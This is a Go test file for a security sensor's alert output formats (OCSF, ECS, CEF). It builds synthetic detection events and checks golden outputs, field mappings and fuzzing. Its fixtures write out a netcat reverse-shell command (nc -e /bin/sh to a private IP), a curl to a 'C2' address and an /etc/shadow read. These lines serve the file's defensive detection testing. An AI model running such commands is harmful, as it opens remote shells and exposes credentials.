package output

import (
	"bytes"
	"encoding/json"
	"net/netip"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/vigil-sensor/vigil/event"
)

// execEvent is an exec in a Kubernetes pod's container.
func execEvent() *event.Event {
	parent := &event.Process{PID: 900, Name: "bash", Exe: "bash", ExePath: "/bin/bash", Cmdline: "bash -i"}
	e := &event.Event{Type: event.TypeExecve, Num: 41, Time: 1_700_000_001_000_000_000, PID: 1000, TID: 1000,
		Proc: &event.Process{PID: 1000, PPID: 900, Name: "nc", Exe: "nc", ExePath: "/usr/bin/nc.openbsd",
			Args: "-e /bin/sh 10.0.0.9 4444", Cmdline: "nc -e /bin/sh 10.0.0.9 4444", Cwd: "/tmp", UID: 33, GID: 33,
			UserName: "www-data", Parent: parent},
		Container: &event.Container{ID: "3f2a1b0c9d8e", FullID: "3f2a1b0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a",
			Type: "containerd", Known: true, Name: "web", Image: "docker.io/library/nginx:1.25",
			ImageRepository: "docker.io/library/nginx", ImageTag: "1.25", ImageDigest: "sha256:0123abcd",
			PodName: "web-7d4b9", PodNamespace: "shop", PodUID: "7c1e2f3a-0000-4000-8000-000000000001"}}
	e.Exec.Filename = []byte("/usr/bin/nc")
	return e
}

// connectEvent is an outbound TCP connect from a host process.
func connectEvent() *event.Event {
	e := &event.Event{Type: event.TypeConnect, Num: 99, Time: 1_700_000_002_500_000_000, PID: 20, TID: 21,
		Proc: &event.Process{PID: 20, PPID: 1, Name: "curl", Exe: "curl", ExePath: "/usr/bin/curl",
			Args: "http://203.0.113.7/", Cmdline: "curl http://203.0.113.7/", Cwd: "/root", UserName: "root"}}
	e.Connect = event.Connect{FD: 5, Family: event.AFInet, SockType: 1, Proto: event.ProtoTCP,
		Local:  netip.MustParseAddrPort("10.0.0.2:40000"),
		Remote: netip.MustParseAddrPort("203.0.113.7:80")}
	return e
}

// fieldsAlert is an alert of rule on e whose output_fields are the named
// fields, typed as the pipeline writes them.
func fieldsAlert(tb testing.TB, e *event.Event, rule, priority string, tags []string, output string, names ...string) *Alert {
	tb.Helper()
	var fields []*event.Field
	for _, n := range names {
		f, ok := event.LookupField(n)
		if !ok {
			tb.Fatalf("no field %s", n)
		}
		fields = append(fields, f)
	}
	return &Alert{Time: e.Time, Rule: rule, Priority: priority, Source: SourceSyscall, Tags: tags,
		Output: []byte(output), Event: e,
		AppendFields: func(b []byte) []byte {
			for i, f := range fields {
				if i > 0 {
					b = append(b, ',')
				}
				b = AppendString(b, f.Name)
				b = append(b, ':')
				b = AppendValue(b, f, e, event.Arg{})
			}
			return b
		}}
}

// goldenAlerts are one alert per event kind, as Falco's rules raise them.
func goldenAlerts(tb testing.TB) map[string]*Alert {
	return map[string]*Alert{
		"exec": fieldsAlert(tb, execEvent(), "Netcat Remote Code Execution in Container", "Warning",
			[]string{"container", "maturity_stable", "mitre_execution", "network", "process", "T1059"},
			"Netcat runs inside container that allows remote code execution (command=nc -e /bin/sh 10.0.0.9 4444 container_id=3f2a1b0c9d8e)",
			"proc.cmdline", "proc.pname", "container.id", "container.name", "user.name"),
		"open": fieldsAlert(tb, openEvent(), "Read sensitive file untrusted", "Warning",
			[]string{"T1555", "container", "filesystem", "host", "maturity_stable", "mitre_credential_access"},
			"Sensitive file opened for reading by non-trusted program (file=/tmp/x\ny\"\xff)",
			"fd.name", "proc.name", "proc.cmdline", "user.uid", "container.id"),
		"connect": fieldsAlert(tb, connectEvent(), "Outbound connection to C2", "Critical",
			[]string{"T1071", "T1059.004", "host", "mitre_command_and_control", "mitre_execution", "network"},
			"Outbound connection (connection=10.0.0.2:40000->203.0.113.7:80 command=curl http://203.0.113.7/)",
			"fd.name", "fd.sip", "fd.sport", "proc.cmdline"),
	}
}

// TestGoldenFormats pins every format's line for each event kind;
// regenerate with `go test ./internal/output -update` after an intended
// change. The JSON formats must parse, and OCSF and ECS must carry the
// members their consumers key on.
func TestGoldenFormats(t *testing.T) {
	enc := NewEncoder("host-1").WithVersion("1.2.3")
	for kind, a := range goldenAlerts(t) {
		for f := range Format(NumFormats) {
			got := enc.Append(f, nil, a)
			ext := ".json"
			if !f.JSON() {
				ext = ".txt"
			}
			checkGolden(t, filepath.Join("testdata", f.String()+"_"+kind+ext), got)
			checkLine(t, f, got)
		}
	}
}

// checkLine checks what every line of format f must satisfy whatever the
// event held: one line, and for JSON formats a JSON object; CEF has its
// seven header fields.
func checkLine(t *testing.T, f Format, line []byte) {
	t.Helper()
	if !bytes.HasSuffix(line, []byte("\n")) || bytes.Count(line, []byte("\n")) != 1 {
		t.Fatalf("%s: not one line: %q", f, line)
	}
	if !utf8.Valid(line) {
		t.Fatalf("%s: invalid UTF-8: %q", f, line)
	}
	if !f.JSON() {
		if n := countUnescaped(line, '|'); n < 7 || !bytes.HasPrefix(line, []byte("CEF:0|")) {
			t.Fatalf("cef: %d header separators: %q", n, line)
		}
		return
	}
	var m map[string]any
	if err := json.Unmarshal(line, &m); err != nil {
		t.Fatalf("%s: invalid JSON: %v: %s", f, err, line)
	}
	switch f {
	case FormatOCSF:
		fi, _ := m["finding_info"].(map[string]any)
		if m["class_uid"] != float64(2004) || fi["title"] == nil || fi["uid"] == nil || m["severity_id"] == nil {
			t.Fatalf("ocsf: not a detection finding: %s", line)
		}
	case FormatECS:
		ev, _ := m["event"].(map[string]any)
		rule, _ := m["rule"].(map[string]any)
		if ev["kind"] != "alert" || rule["name"] == nil || m["@timestamp"] == nil {
			t.Fatalf("ecs: not an alert: %s", line)
		}
	}
}

// countUnescaped counts c in b where no backslash escapes it.
func countUnescaped(b []byte, c byte) int {
	n := 0
	for i := 0; i < len(b); i++ {
		switch b[i] {
		case '\\':
			i++
		case c:
			n++
		}
	}
	return n
}

func TestOCSFMapping(t *testing.T) {
	enc := NewEncoder("h")
	alerts := goldenAlerts(t)
	var exec struct {
		SeverityID  int    `json:"severity_id"`
		Severity    string `json:"severity"`
		FindingInfo struct {
			Attacks []struct {
				Technique struct{ UID string } `json:"technique"`
				Tactic    struct{ UID, Name string }
			} `json:"attacks"`
		} `json:"finding_info"`
		Evidences []struct {
			Process struct {
				PID           int    `json:"pid"`
				CmdLine       string `json:"cmd_line"`
				User          struct{ UID, Name string }
				ParentProcess struct {
					PID  int
					File struct{ Name string }
				} `json:"parent_process"`
			}
			Container struct {
				UID   string
				Image struct{ Name, Tag string }
			}
			File *struct{} `json:"file"`
		}
	}
	if err := json.Unmarshal(enc.AppendOCSF(nil, alerts["exec"]), &exec); err != nil {
		t.Fatal(err)
	}
	ev := exec.Evidences[0]
	if exec.SeverityID != 3 || exec.Severity != "Medium" || ev.Process.PID != 1000 || ev.Process.User.UID != "33" ||
		ev.Process.User.Name != "www-data" || ev.Process.ParentProcess.PID != 900 || ev.Process.ParentProcess.File.Name != "bash" ||
		ev.Container.Image.Name != "docker.io/library/nginx" || ev.Container.UID == "" || ev.File != nil {
		t.Errorf("exec evidence: %+v", exec)
	}
	if len(exec.FindingInfo.Attacks) != 1 || exec.FindingInfo.Attacks[0].Technique.UID != "T1059" ||
		exec.FindingInfo.Attacks[0].Tactic.UID != "TA0002" {
		t.Errorf("attacks: %+v", exec.FindingInfo.Attacks)
	}

	var conn struct {
		SeverityID  int `json:"severity_id"`
		FindingInfo struct {
			Attacks []map[string]map[string]string `json:"attacks"`
		} `json:"finding_info"`
		Evidences []struct {
			Src struct {
				IP   string
				Port int
			} `json:"src_endpoint"`
			Dst struct {
				IP   string
				Port int
			} `json:"dst_endpoint"`
			ConnectionInfo struct {
				ProtocolName  string `json:"protocol_name"`
				ProtocolVerID int    `json:"protocol_ver_id"`
				DirectionID   int    `json:"direction_id"`
			} `json:"connection_info"`
			Container *struct{} `json:"container"`
		}
	}
	if err := json.Unmarshal(enc.AppendOCSF(nil, alerts["connect"]), &conn); err != nil {
		t.Fatal(err)
	}
	cv := conn.Evidences[0]
	if conn.SeverityID != 5 || cv.Src.IP != "10.0.0.2" || cv.Src.Port != 40000 || cv.Dst.IP != "203.0.113.7" || cv.Dst.Port != 80 ||
		cv.ConnectionInfo.ProtocolName != "tcp" || cv.ConnectionInfo.ProtocolVerID != 4 || cv.ConnectionInfo.DirectionID != 2 || cv.Container != nil {
		t.Errorf("connect evidence: %+v", conn)
	}
	// Two tactics: techniques stand alone (T1059.004 with its technique),
	// then one attack per tactic.
	want := []map[string]map[string]string{
		{"technique": {"uid": "T1071"}},
		{"technique": {"uid": "T1059"}, "sub_technique": {"uid": "T1059.004"}},
		{"tactic": {"uid": "TA0011", "name": "Command and Control"}},
		{"tactic": {"uid": "TA0002", "name": "Execution"}},
	}
	if got, _ := json.Marshal(conn.FindingInfo.Attacks); string(got) != mustJSON(t, want) {
		t.Errorf("attacks:\n got %s\nwant %s", got, mustJSON(t, want))
	}
}

func mustJSON(t *testing.T, v any) string {
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func TestECSMapping(t *testing.T) {
	enc := NewEncoder("h")
	alerts := goldenAlerts(t)
	var open struct {
		Event struct {
			Kind, Action, Outcome string
			Category, Type        []string
			Severity              int
		}
		File   struct{ Path, Name, Directory, Type string }
		User   struct{ ID string }
		Log    struct{ Level string }
		Host   struct{ Hostname string }
		Threat struct {
			Tactic    struct{ ID, Name []string }
			Technique struct{ ID []string }
		}
		Container *struct{} `json:"container"`
		Network   *struct{} `json:"network"`
	}
	if err := json.Unmarshal(enc.AppendECS(nil, alerts["open"]), &open); err != nil {
		t.Fatal(err)
	}
	if open.Event.Kind != "alert" || open.Event.Action != "openat" || open.Event.Outcome != "failure" ||
		strings.Join(open.Event.Category, ",") != "file" || open.File.Path != "/tmp/x\ny\"\ufffd" || open.File.Directory != "/tmp" ||
		open.File.Type != "file" || open.User.ID != "0" || open.Log.Level != "warning" || open.Host.Hostname != "h" ||
		open.Container != nil || open.Network != nil {
		t.Errorf("open: %+v", open)
	}
	if strings.Join(open.Threat.Tactic.ID, ",") != "TA0006" || strings.Join(open.Threat.Technique.ID, ",") != "T1555" {
		t.Errorf("threat: %+v", open.Threat)
	}
	var conn struct {
		Source, Destination struct {
			IP   string
			Port int
		}
		Network struct{ Transport, Type, Direction string }
		Threat  struct {
			Technique struct {
				ID           []string
				Subtechnique struct{ ID []string }
			}
		}
		File *struct{} `json:"file"`
	}
	if err := json.Unmarshal(enc.AppendECS(nil, alerts["connect"]), &conn); err != nil {
		t.Fatal(err)
	}
	if conn.Source.IP != "10.0.0.2" || conn.Destination.Port != 80 || conn.Network.Transport != "tcp" || conn.Network.Type != "ipv4" ||
		conn.Network.Direction != "egress" || conn.File != nil ||
		strings.Join(conn.Threat.Technique.ID, ",") != "T1071,T1059" || strings.Join(conn.Threat.Technique.Subtechnique.ID, ",") != "T1059.004" {
		t.Errorf("connect: %+v", conn)
	}
	var exec struct {
		Container struct {
			ID    string
			Image struct {
				Name string
				Tag  []string
			}
		}
		Orchestrator struct {
			Namespace string
			Resource  struct{ Name, Type string }
		}
	}
	if err := json.Unmarshal(enc.AppendECS(nil, alerts["exec"]), &exec); err != nil {
		t.Fatal(err)
	}
	if exec.Container.Image.Name != "docker.io/library/nginx" || len(exec.Container.Image.Tag) != 1 ||
		exec.Orchestrator.Namespace != "shop" || exec.Orchestrator.Resource.Type != "pod" {
		t.Errorf("exec: %+v", exec)
	}
}

// TestFormatsAllocs keeps every format free of allocations per alert.
func TestFormatsAllocs(t *testing.T) {
	enc := NewEncoder("host-1")
	buf := make([]byte, 0, 8192)
	for kind, a := range goldenAlerts(t) {
		for f := range Format(NumFormats) {
			if n := testing.AllocsPerRun(100, func() { buf = enc.Append(f, buf[:0], a) }); n != 0 {
				t.Errorf("%s %s: %v allocations per alert, want 0", f, kind, n)
			}
		}
	}
}

// FuzzFormats feeds arbitrary bytes to every string an alert line carries:
// each JSON format must stay one valid JSON line, CEF one line with its
// header intact.
func FuzzFormats(f *testing.F) {
	f.Add("cat", "/etc/shadow", "rule", "out", "T1555", "web")
	f.Add("\xff\xfe", "a\nb\"c\\|=", "r|u=le\n", "\x00\x1f\u2028", "mitre_\xff", "\r\n")
	enc := NewEncoder("host\xff|=")
	f.Fuzz(func(t *testing.T, name, path, rule, output, tag, ctr string) {
		open := openEvent()
		open.Proc.Name, open.Proc.Cmdline, open.Proc.ExePath = name, name+" "+path, path
		open.Open.Name = []byte(path)
		exec := execEvent()
		exec.Proc.Cmdline, exec.Container.Name, exec.Container.ImageTag = output, ctr, tag
		conn := connectEvent()
		conn.Proc.UserName = ctr
		for _, e := range []*event.Event{open, exec, conn} {
			a := fieldsAlert(t, e, rule, tag, []string{tag, "T1059.004", "mitre_execution"}, output,
				"fd.name", "proc.cmdline", "container.name", "fd.sip")
			for fm := range Format(NumFormats) {
				checkLine(t, fm, enc.Append(fm, nil, a))
			}
		}
	})
}
